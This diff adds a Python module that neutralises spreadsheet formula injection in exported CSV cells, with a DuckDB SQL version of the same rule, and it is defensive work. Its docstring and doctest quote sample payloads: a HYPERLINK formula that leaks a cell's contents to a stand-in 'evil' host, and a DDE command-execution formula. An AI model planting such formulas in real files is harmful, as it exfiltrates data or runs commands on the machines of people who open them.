@@ -1,0 +1,33 @@
+"""Cells of CSV files that people open in a spreadsheet: outbox lists, the quarantine.
+
+Customer data is written by the public. A name such as `=HYPERLINK("http://evil/?d="&B2,
+"Click me")` or `=cmd|' /C calc'!A0` is a formula to a spreadsheet, so a cell that starts
+with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe (the OWASP
+rule: the spreadsheet shows the text as written and evaluates nothing). Control characters
+other than line breaks and tabs (a NUL in a name) are dropped: no reader expects them.
+
+>>> cell('=HYPERLINK("http://evil.example/?d="&B2,"Click me")')
+'\\'=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
+>>> cell("+8613800000000"), cell("王芳"), cell("a\\x00b")
+("'+8613800000000", '王芳', 'ab')
+"""
+
+from __future__ import annotations
+
+import re
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+# The same rule in SQL (DuckDB), for files written by COPY.
+FORMULA_START_REGEX = r"^[=+\-@\t\r]"
+
+
+def cell(value: object) -> str:
+    text = _CONTROL.sub("", str(value))
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
+def cell_sql(expr: str) -> str:
+    """cell() as a DuckDB expression over a text expression."""
+    clean = f"regexp_replace({expr}, '[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f]', '', 'g')"
+    return f"CASE WHEN regexp_matches({clean}, '{FORMULA_START_REGEX}') THEN chr(39) || {clean} ELSE {clean} END"
